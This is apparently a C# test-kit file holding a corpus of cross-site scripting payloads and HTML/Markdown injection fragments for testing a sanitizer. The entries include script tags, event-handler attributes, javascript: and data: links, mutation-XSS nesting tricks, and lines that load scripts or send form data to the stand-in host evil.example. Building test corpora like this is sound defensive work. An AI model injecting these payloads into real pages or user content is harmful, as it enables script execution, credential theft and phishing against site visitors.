namespace Glabella.TestKit;

/// <summary>What people write who want a page to run their script: raw HTML, addresses that are programs, broken nesting, other spellings.</summary>
public static class Mischief
{
    public static readonly string[] Corpus =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "</p><script>alert(1)</script><p>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)' />", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img/src=`x`onerror=alert(1)>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">CLICK</math>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">", "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';*{color:red}</style>", "<div style=\"background:url(//evil.example/x.png)\">x</div>", "<p style=position:fixed;inset:0>cover</p>", "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>",
        "<marquee onstart=alert(1)>", "<form action=\"https://evil.example/\"><button>Sign in</button></form>", "<button formaction=javascript:alert(1)>X</button>", "<a href=\"javascript:alert(1)\">x</a>", "<a onmouseover=alert(1)>x</a>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](java\tscript:alert(1))", "[x](java&#x0A;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](javascript&colon;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)", "[x](https://fine.example/\" onmouseover=\"alert(1))", "[x](<javascript:alert(1)>)",
        "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)", "![x](x \"onerror=alert(1)\")", "javascript:alert(1)", "[![x](x)](javascript:alert(1))",
        "`<script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```", "    <script>alert(1)</script>", "> <script>alert(1)</script>", "# <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "*<script>*alert(1)*</script>*",
        "**bold<img src=x onerror=alert(1)>**", "[a](https://x.example/'onclick='alert(1))", "{{constructor.constructor('alert(1)')()}}", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    ];

    public static readonly string[] Pieces = ["<", ">", "\"", "'", "`", "[", "](", ")", "<!--", "-->", "</", "/>", "&#x", "\n\n", "    ", "onload=", "javascript:", "<a href=", "<p>", "</p>", "\u0000", "\ud83d\ude00"];
}
